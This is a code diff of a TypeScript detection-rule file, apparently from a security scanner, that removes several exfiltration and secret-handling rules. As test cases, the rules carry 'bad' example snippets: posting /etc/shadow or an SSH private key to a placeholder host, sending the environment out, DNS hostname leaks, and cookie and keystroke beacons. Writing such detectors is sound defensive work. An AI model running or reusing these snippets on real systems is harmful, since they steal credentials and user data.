@@ -1,39 +1,16 @@
-import type { Effect } from '../effect.ts'
-import { origin, type Value } from '../model.ts'
+import { origin } from '../model.ts'
 import { hostOf, isDropHost, isMetadataHost } from '../paths.ts'
 import type { Rule } from '../rule.ts'
-import { comesFrom, sketch, startOf } from '../values.ts'
-import {
-  code,
-  everything,
-  everywhere,
-  isFalse,
-  isFixed,
-  isRequested,
-  names,
-  option,
-  python,
-  says,
-  scripts,
-} from './ask.ts'
+import { comesFrom, startOf } from '../values.ts'
+import { code, everywhere, isFalse, isRequested, option, python, says } from './ask.ts'
+import { host } from './where.ts'
 
-const host = (effect: Effect): string => hostOf(startOf(effect.target)) ?? startOf(effect.target)
-const sends = (effect: Effect): boolean =>
-  effect.payload !== undefined || /\.(post|put|patch|sendto|sendmail|send)$/i.test(effect.call?.name ?? '')
 const private_ =
   /^(127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|169\.254\.|localhost$|0\.0\.0\.0|\[?::1|\[?f[cd]|.*\.(internal|local|corp|lan)$)/i
 
-/** A variable, or a text with one in it, whose name says that it holds a secret. */
-function isTelling(value: Value): boolean {
-  if (value.kind === 'joined') return value.parts.some(part => typeof part !== 'string' && isTelling(part))
-  return (
-    value.kind === 'thing' &&
-    /(^|[._])(passw(or)?d|passwd|secret|api_?key|private_?key|ssn|credit_?card|card_?number)$/i.test(value.name)
-  )
-}
-
 const programFile = /\.(pyw?|sh|bash|[cm]?js|ps1|bat|cmd|exe|msi|dll|so|dylib|jar|rb|pl|php|deb|rpm|apk|whl)$/i
 
+/** Rules about whom a program talks to. */
 export const networkRules: readonly Rule[] = [
   {
     id: 'network/metadata-service',
@@ -63,76 +40,6 @@ export const networkRules: readonly Rule[] = [
     examples: {
       bad: ["import requests\nrequests.post('https://webhook.site/x', data=d)"],
       good: ["import requests\nrequests.get('https://data.europa.eu/x.csv')"],
-    },
-  },
-  {
-    id: 'network/secret-leaves',
-    languages: everywhere,
-    type: 'exfiltration',
-    severity: 'critical',
-    cwe: 'CWE-200',
-    description: 'Sends the content of a secret over the network.',
-    recommendation: 'Do not send secrets; grant access to the one who needs it.',
-    implies: ['connect', 'secrets'],
-    match: {
-      on: 'effect',
-      kinds: ['connect'],
-      when: effect => comesFrom(effect.payload, origin.secret) || comesFrom(effect.target, origin.secret),
-    },
-    examples: {
-      bad: [
-        "import requests\nrequests.post('https://x.org', data=open('/etc/shadow').read())",
-        {
-          language: 'javascript',
-          code: "const k = require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa'); fetch('https://x.org', { method: 'POST', body: k })",
-        },
-      ],
-      good: ["import requests\nrequests.post('https://x.org', data=open('report.csv').read())"],
-    },
-  },
-  {
-    id: 'network/data-leaves',
-    languages: everywhere,
-    type: 'exfiltration',
-    severity: 'medium',
-    cwe: 'CWE-201',
-    description: 'Sends data out.',
-    recommendation: 'Check what is sent and to whom.',
-    implies: ['connect'],
-    match: {
-      on: 'effect',
-      kinds: ['connect'],
-      when: effect => {
-        const { payload } = effect
-        // A name that nobody has is asked for to tell its owner what it says.
-        if (
-          /^(dns|socket)\b/.test(effect.call?.name ?? '') &&
-          effect.target.kind === 'joined' &&
-          comesFrom(effect.target, origin.file | origin.system)
-        )
-          return {
-            severity: 'high',
-            message: 'Puts facts about this machine or its files into a name that it asks for.',
-          }
-        if (comesFrom(effect.target, origin.file | origin.system | origin.environment) && host(effect) !== '')
-          return { severity: 'high', message: 'Puts facts about this machine or its files into an address.' }
-        if (comesFrom(payload, origin.environment | origin.system))
-          return { severity: 'high', message: 'Sends facts about this machine out.' }
-        if (comesFrom(payload, origin.file)) return { severity: 'high', message: 'Sends the content of files out.' }
-        return sends(effect)
-      },
-    },
-    examples: {
-      bad: [
-        "import requests\nrequests.post('https://x.org', json={'a': 1})",
-        "import requests, os\nrequests.post('https://x.org', json=dict(os.environ))",
-        { language: 'javascript', code: "require('dns').lookup(require('os').hostname() + '.x.org', f)" },
-        {
-          language: 'javascript',
-          code: "fetch('https://x.org/?h=' + encodeURIComponent(require('os').hostname()))",
-        },
-      ],
-      good: ["import requests\nrequests.get('https://x.org')"],
     },
   },
   {
@@ -326,60 +233,6 @@ export const networkRules: readonly Rule[] = [
     },
   },
   {
-    id: 'network/page-leaves',
-    languages: scripts,
-    type: 'exfiltration',
-    severity: 'high',
-    cwe: 'CWE-359',
-    description: 'Sends what a visitor types or is known by to an address, in the address of a picture or a request.',
-    recommendation: 'Remove it.',
-    implies: ['connect', 'secrets'],
-    match: {
-      on: 'assignment',
-      about: target => /(^|\.)(src|href|action)$/.test(target),
-      when: ({ value, how }) =>
-        how === 'assign' &&
-        value.kind === 'joined' &&
-        says(value, /^(https?:)?\/\//) &&
-        (comesFrom(value, origin.secret) ||
-          value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|keyCode|target\.value)$/))),
-    },
-    examples: {
-      bad: [
-        "new Image().src = 'https://x.org/?' + document.cookie",
-        "addEventListener('keydown', e => { image.src = 'https://x.org/?' + e.key })",
-      ],
-      good: ["image.src = 'https://x.org/' + name + '.png'", "link.href = '/items/' + e.target.value"],
-    },
-  },
-  {
-    id: 'network/typed-leaves',
-    languages: scripts,
-    type: 'exfiltration',
-    severity: 'medium',
-    cwe: 'CWE-359',
-    description: 'Sends what a visitor types into a password field out.',
-    recommendation: 'Let the form of the page send it, to the page it belongs to.',
-    implies: ['connect', 'secrets'],
-    match: {
-      on: 'effect',
-      kinds: ['connect'],
-      when: ({ target, payload }, { program }) =>
-        /type=["']?password|keydown|keypress|keyup/.test(program.source) &&
-        [target, payload].some(
-          value =>
-            value?.kind === 'joined' &&
-            value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|target\.value|value)$/)),
-        ),
-    },
-    examples: {
-      bad: [
-        "document.querySelector('input[type=password]').onchange = e => fetch('https://x.org/?p=' + e.target.value)",
-      ],
-      good: ["search.onchange = e => fetch('/search?q=' + e.target.value)"],
-    },
-  },
-  {
     id: 'network/open-password',
     languages: python,
     type: 'secret',
@@ -397,128 +250,6 @@ export const networkRules: readonly Rule[] = [
     examples: {
       bad: ["import requests\nrequests.get('http://example.org/a', auth=(user, word))"],
       good: ["import requests\nrequests.get('https://example.org/a', auth=(user, word))"],
-    },
-  },
-  {
-    id: 'network/secret-printed',
-    languages: code,
-    type: 'exfiltration',
-    severity: 'medium',
-    cwe: 'CWE-532',
-    description: 'Prints or logs a secret.',
-    recommendation: 'Keep secrets out of output and logs.',
-    implies: ['secrets'],
-    match: {
-      on: 'call',
-      names: [
-        'print',
-        'console.log',
-        'console.info',
-        'console.error',
-        'console.debug',
-        'logging.info',
-        'logging.debug',
-        'logging.warning',
-        'logging.error',
-        'logger.info',
-        'logger.debug',
-        '*.info',
-        '*.debug',
-        'sys.stdout.write',
-        'process.stdout.write',
-      ],
-      when: call => {
-        if (everything(call).some(value => comesFrom(value, origin.secret) && !isFixed(value))) return true
-        // A variable that is called a password is one; printing it is what password exercises do, logging it is not.
-        return (
-          /^(logging|logger|log|console\.(info|error|debug))\b|\.(info|debug)$/.test(call.name) &&
-          call.args.some(isTelling)
-        )
-      },
-    },
-    examples: {
-      bad: [
-        "import os\nprint(os.environ['AWS_SECRET_ACCESS_KEY'])",
-        { language: 'javascript', code: 'console.log(process.env.API_KEY)' },
-      ],
-      good: ["import os\nprint(os.environ['LANG'])"],
-    },
-  },
-  {
-    id: 'network/environment-dumped',
-    languages: code,
-    type: 'secret',
-    severity: 'high',
-    cwe: 'CWE-526',
-    description: 'Takes the whole environment, where credentials are passed to programs.',
-    recommendation: 'Read the one variable that is needed.',
-    implies: ['secrets'],
-    match: {
-      on: 'call',
-      names: [
-        'print',
-        'dict',
-        'str',
-        'list',
-        'json.dumps',
-        'json.dump',
-        'pprint.pprint',
-        'os.environ.items',
-        'os.environ.copy',
-        'os.environ.values',
-        'console.log',
-        'JSON.stringify',
-        'Object.entries',
-        'Object.keys',
-        'Object.values',
-        'Object.assign',
-        'repr',
-        'sorted',
-        'os.environ.keys',
-      ],
-      when: call => {
-        if (call.name === 'os.environ.copy') return { severity: 'low' }
-        if (call.name.startsWith('os.environ.')) return true
-        return call.args.some(
-          value =>
-            value.kind === 'thing' && /^(os\.environb?|process\.env|os\.environ\.(copy|items)\(\))$/.test(value.name),
-        )
-      },
-    },
-    examples: {
-      bad: [
-        'import os\nprint(os.environ)',
-        { language: 'javascript', code: 'console.log(JSON.stringify(process.env))' },
-      ],
-      good: ["import os\nprint(os.environ.get('HOME'))"],
-    },
-  },
-  {
-    id: 'network/secret-variable',
-    languages: code,
-    type: 'secret',
-    severity: 'medium',
-    cwe: 'CWE-526',
-    description: 'Reads a credential from the environment.',
-    recommendation: 'Sandboxes get no secrets; grant access another way.',
-    implies: ['secrets'],
-    match: {
-      on: 'program',
-      find: ({ program }) =>
-        program.assignments
-          .filter(
-            ({ value, how }) =>
-              how === 'assign' &&
-              comesFrom(value, origin.secret) &&
-              comesFrom(value, origin.environment) &&
-              sketch(value) === null,
-          )
-          .slice(0, 3)
-          .map(({ start, end }) => ({ at: { start, end } })),
-    },
-    examples: {
-      bad: ["import os\nkey = os.environ['AWS_SECRET_ACCESS_KEY']"],
-      good: ["import os\nlang = os.environ['LANG']"],
     },
   },
 ]
